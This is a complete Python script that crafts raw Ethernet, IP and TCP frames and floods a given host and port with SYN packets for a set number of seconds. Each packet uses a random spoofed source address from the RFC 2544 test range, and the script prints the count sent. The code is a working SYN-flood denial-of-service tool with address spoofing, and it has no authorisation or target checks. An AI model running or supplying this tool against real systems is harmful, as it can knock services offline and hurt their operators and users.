"""Sends SYNs from addresses that nobody has, until SECONDS are over: `INTERFACE DST PORT SECONDS`; prints how many."""
import os
import socket
import struct
import subprocess
import sys
import time


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def checksum(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_of(address):
    subprocess.run(["ping", "-c1", "-W1", address], capture_output=True, check=True)
    line = subprocess.run(["ip", "neigh", "show", address], capture_output=True, check=True, text=True).stdout
    return bytes.fromhex(line.split()[line.split().index("lladdr") + 1].replace(":", ""))


interface, dst, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0))
own = out.getsockname()[4]
target = socket.inet_aton(dst)
ethernet = mac_of(dst) + own + b"\x08\0"
ip = struct.pack("!BBHHHBB", 0x45, 0, 40, 1, 0, 64, 6)
tail = struct.pack("!IIBBH", 7, 0, 0x50, 2, 64240)
sent, end = 0, time.monotonic() + seconds
while time.monotonic() < end:
    # Reserved for tests (RFC 2544): no host answers from there.
    noise = os.urandom(6 * 256)
    for i in range(0, len(noise), 6):
        src = b"\xc6\x12" + noise[i : i + 2]
        sport = struct.unpack("!H", noise[i + 2 : i + 4])[0] | 1024
        ends = src + target
        head = ip + struct.pack("!H", checksum(words(ip) + words(ends))) + ends
        ports = struct.pack("!HH", sport, port)
        total = words(ends) + 6 + 20 + words(ports) + words(tail)
        out.send(ethernet + head + ports + tail + struct.pack("!HH", checksum(total), 0))
    sent += len(noise) // 6
print(sent)
